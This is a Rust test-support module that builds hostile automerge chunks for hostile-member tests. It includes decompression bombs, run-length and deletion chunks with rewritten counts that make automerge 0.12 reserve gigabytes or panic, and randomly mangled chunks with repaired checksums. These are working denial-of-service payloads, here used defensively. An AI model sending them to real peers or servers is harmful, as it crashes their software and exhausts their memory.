//! Decompression bombs as a hostile member would send them: automerge chunks whose one
//! compressed column inflates to many MiB of zeros, a few KB on the wire. Used by the
//! hostile-member tests and the `bomb` example that measures a victim's memory.

use std::io::Write;

/// What the bomb claims to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A change chunk (an `Item::Changes` entry): its whole body compressed.
    Change,
    /// A document (an `Item::Whole` or `Item::Adopt`): one op column, compressed.
    Document,
    /// A real document of 1,000 operations whose counts are rewritten to claim `mib`
    /// mebi-operations: run-length encoded columns say "this value, N times" in a few
    /// bytes, which no inflation bound sees (automerge 0.12 then reserves memory for
    /// every claimed operation: 8 GiB at a time for 2^30).
    RunLength,
    /// A real document of 1,000 empty changes whose counts are rewritten to claim `mib`
    /// mebi-changes: automerge 0.12 panics loading it (an unwrap in its column library).
    EmptyChanges,
}

/// A chunk of `kind` that inflates to `mib` MiB (or claims `mib` mebi-operations or
/// mebi-changes: see [`claiming`]).
pub fn bomb(kind: Kind, mib: usize) -> Vec<u8> {
    let (chunk_type, data) = match kind {
        Kind::RunLength | Kind::EmptyChanges => return claiming(kind, mib as u64 * (1 << 20)),
        Kind::Change => (2, deflated_zeros(mib)),
        Kind::Document => {
            let zeros = deflated_zeros(mib);
            let mut data = Vec::new();
            // No actors, no heads, no change columns; one op column, compressed.
            for n in [0, 0, 0, 1, (1 << 4) | 0b1000, zeros.len() as u64] {
                uleb(n, &mut data);
            }
            data.extend(zeros);
            (0, data)
        }
    };
    // Magic bytes, a checksum automerge does not check for compressed chunks, the type.
    let mut out = vec![0x85, 0x6f, 0x4a, 0x83, 0, 0, 0, 0, chunk_type];
    uleb(data.len() as u64, &mut out);
    out.extend(data);
    out
}

/// A document of kind [`Kind::RunLength`] claiming `count` operations, or of kind
/// [`Kind::EmptyChanges`] claiming `count` changes (at least 2); a few hundred bytes.
/// Other kinds are not counts: their [`bomb`] of one MiB.
pub fn claiming(kind: Kind, count: u64) -> Vec<u8> {
    match kind {
        Kind::RunLength => run_length(count),
        Kind::EmptyChanges => empty_changes(count),
        Kind::Change | Kind::Document => bomb(kind, 1),
    }
}

/// A list of 1,000 `true`s (every op column a run, no value bytes) saved, then every
/// number near 1,000 in its change and op columns (the op count, the counters around
/// it) rewritten as the same distance from `ops`, so that the columns agree with each
/// other, and the chunk put back together with its lengths and checksum.
fn run_length(ops: u64) -> Vec<u8> {
    padded_run_length(ops, 0)
}

/// [`Kind::RunLength`] with a string of `pad` zero bytes beside the list: real bytes
/// that inflate (a few KB compressed), so that the claim fits two operations a byte of
/// what the document inflates to.
pub fn padded_run_length(ops: u64, pad: usize) -> Vec<u8> {
    use automerge::transaction::Transactable;
    let mut doc = automerge::AutoCommit::new();
    let made = doc
        .put_object(automerge::ROOT, "l", automerge::ObjType::List)
        .and_then(|list| (0..1000).try_for_each(|i| doc.insert(&list, i, true)))
        .and_then(|()| {
            if pad > 0 {
                doc.put(automerge::ROOT, "pad", "\0".repeat(pad))
            } else {
                Ok(())
            }
        });
    let saved = doc.save();
    match made {
        Ok(()) => rewrite_counts(&saved, 1000, ops.max(2)).unwrap_or(saved),
        Err(_) => saved,
    }
}

/// 1,000 empty changes saved, their counts rewritten as [`run_length`] does.
fn empty_changes(changes: u64) -> Vec<u8> {
    let mut doc = automerge::AutoCommit::new();
    for _ in 0..1000 {
        doc.empty_change(automerge::transaction::CommitOptions::default().with_time(0));
    }
    let saved = doc.save();
    rewrite_counts(&saved, 1000, changes.max(2)).unwrap_or(saved)
}

fn read_uleb(b: &[u8], at: &mut usize) -> Option<u64> {
    let mut v = 0u64;
    for shift in (0..64).step_by(7) {
        let byte = *b.get(*at)?;
        *at += 1;
        v |= u64::from(byte & 0x7f) << shift;
        if byte & 0x80 == 0 {
            return Some(v);
        }
    }
    None
}

/// The document chunk `saved` with each LEB of `from - 2 ..= from + 2` in its columns
/// written as the same distance from `to`.
fn rewrite_counts(saved: &[u8], from: u64, to: u64) -> Option<Vec<u8>> {
    let mut at = 9;
    let len = read_uleb(saved, &mut at)? as usize;
    let body = saved.get(at..at + len)?;
    let mut p = 0;
    for _ in 0..read_uleb(body, &mut p)? {
        let n = read_uleb(body, &mut p)? as usize;
        p += n;
    }
    p += 32 * read_uleb(body, &mut p)? as usize;
    let prefix_end = p;
    let mut specs: Vec<Vec<(u64, usize)>> = Vec::new();
    for _ in 0..2 {
        let count = read_uleb(body, &mut p)?;
        let mut cols = Vec::new();
        for _ in 0..count {
            cols.push((read_uleb(body, &mut p)?, read_uleb(body, &mut p)? as usize));
        }
        specs.push(cols);
    }
    let pairs: Vec<(Vec<u8>, Vec<u8>)> = (0..5u64)
        .map(|d| {
            let (mut old, mut new) = (Vec::new(), Vec::new());
            uleb(from + d - 2, &mut old);
            uleb(to + d - 2, &mut new);
            (old, new)
        })
        .collect();
    let rewrite = |col: &[u8]| {
        let mut out = Vec::new();
        let mut i = 0;
        'bytes: while i < col.len() {
            for (old, new) in &pairs {
                if col[i..].starts_with(old) {
                    out.extend(new);
                    i += old.len();
                    continue 'bytes;
                }
            }
            out.push(col[i]);
            i += 1;
        }
        out
    };
    let mut data: Vec<Vec<Vec<u8>>> = Vec::new();
    for cols in &specs {
        let mut group = Vec::new();
        for (_, n) in cols {
            group.push(rewrite(body.get(p..p + n)?));
            p += n;
        }
        data.push(group);
    }
    let mut new_body = body[..prefix_end].to_vec();
    for (cols, group) in specs.iter().zip(&data) {
        uleb(cols.len() as u64, &mut new_body);
        for ((spec, _), d) in cols.iter().zip(group) {
            uleb(*spec, &mut new_body);
            uleb(d.len() as u64, &mut new_body);
        }
    }
    for d in data.iter().flatten() {
        new_body.extend(d);
    }
    new_body.extend(body.get(p..)?);
    Some(chunk(saved[8], new_body))
}

/// An automerge chunk of type `kind` around `body`, with the checksum automerge checks
/// for uncompressed chunks: the first four bytes of SHA-256 of the type, the length and
/// the body.
fn chunk(kind: u8, body: Vec<u8>) -> Vec<u8> {
    let mut checked = vec![kind];
    uleb(body.len() as u64, &mut checked);
    checked.extend(body);
    use sha2::Digest;
    let sum = sha2::Sha256::digest(&checked);
    let mut out = vec![0x85, 0x6f, 0x4a, 0x83];
    out.extend_from_slice(&sum[..4]);
    out.extend(checked);
    out
}

/// A change chunk (`change`, uncompressed) with one to three of its bytes after the
/// header changed at random and its checksum mended, as a member would send it to see
/// what breaks: `None` when the edit broke the chunk's own length.
pub fn mangled(change: &[u8], rng: &mut impl rand::RngExt) -> Option<Vec<u8>> {
    let mut at = 9;
    read_uleb(change, &mut at)?;
    let mut body = change.get(at..)?.to_vec();
    if body.is_empty() {
        return None;
    }
    for _ in 0..rng.random_range(1..=3) {
        let i = rng.random_range(0..body.len());
        body[i] = match rng.random_range(0..3) {
            0 => rng.random(),
            1 => body[i] ^ (1 << rng.random_range(0..8)),
            _ => body[i].wrapping_add(1),
        };
    }
    Some(chunk(*change.get(8)?, body))
}

/// `deletion`, a change deleting `from` consecutive characters that one change inserted
/// (its op columns are runs of `from`), rewritten to claim `to` deletions: the same
/// hundred-odd bytes, with every run of `from` (and of `from - 1`, the counters' deltas)
/// made a run of `to`, and the checksum mended. automerge 0.12 spends about 500 bytes
/// and 2 µs on each claimed deletion before it finds they delete nothing (16 Mi: 8.7 GB
/// and 39 s, then a panic). `None` when `deletion` is not such a change.
pub fn deletions_claiming(deletion: &[u8], from: u64, to: u64) -> Option<Vec<u8>> {
    let mut at = 9;
    let len = read_uleb(deletion, &mut at)? as usize;
    let body = deletion.get(at..at + len)?;
    let mut p = 0;
    p += 32 * read_uleb(body, &mut p)? as usize; // dependencies
    p += read_uleb(body, &mut p)? as usize; // actor
    for _ in 0..3 {
        read_uleb(body, &mut p)?; // sequence number, start op, time
    }
    p += read_uleb(body, &mut p)? as usize; // message
    for _ in 0..read_uleb(body, &mut p)? {
        p += read_uleb(body, &mut p)? as usize; // other actors
    }
    let header = body.get(..p)?;
    let mut cols = Vec::new();
    for _ in 0..read_uleb(body, &mut p)? {
        cols.push((read_uleb(body, &mut p)?, read_uleb(body, &mut p)? as usize));
    }
    let replace_once = |data: &[u8], old: &[u8], new: &[u8]| -> Option<Vec<u8>> {
        let i = data.windows(old.len()).position(|w| w == old)?;
        let mut out = data[..i].to_vec();
        out.extend(new);
        out.extend(&data[i + old.len()..]);
        Some(out)
    };
    let mut rewritten = Vec::new();
    for (spec, n) in &cols {
        let data = body.get(p..p + n)?;
        p += n;
        let new = if spec & 0b111 == 4 {
            let (mut old, mut new) = (Vec::new(), Vec::new());
            uleb(from, &mut old);
            uleb(to, &mut new);
            replace_once(data, &old, &new)
        } else {
            [0, 1].iter().find_map(|d| {
                let (mut old, mut new) = (Vec::new(), Vec::new());
                sleb(from as i64 - d, &mut old);
                sleb(to as i64 - d, &mut new);
                replace_once(data, &old, &new)
            })
        };
        rewritten.push(new.unwrap_or_else(|| data.to_vec()));
    }
    let mut new_body = header.to_vec();
    uleb(cols.len() as u64, &mut new_body);
    for ((spec, _), d) in cols.iter().zip(&rewritten) {
        uleb(*spec, &mut new_body);
        uleb(d.len() as u64, &mut new_body);
    }
    for d in &rewritten {
        new_body.extend(d);
    }
    new_body.extend(body.get(p..)?);
    Some(chunk(*deletion.get(8)?, new_body))
}

fn sleb(mut v: i64, out: &mut Vec<u8>) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if (v == 0 && b & 0x40 == 0) || (v == -1 && b & 0x40 != 0) {
            out.push(b);
            return;
        }
        out.push(b | 0x80);
    }
}

/// `mib` MiB of zeros, raw DEFLATE at its best ratio (about 1,000:1).
fn deflated_zeros(mib: usize) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..mib {
        e.write_all(&zeros).expect("deflate to memory");
    }
    e.finish().expect("deflate to memory")
}

fn uleb(mut v: u64, out: &mut Vec<u8>) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(b);
            return;
        }
        out.push(b | 0x80);
    }
}
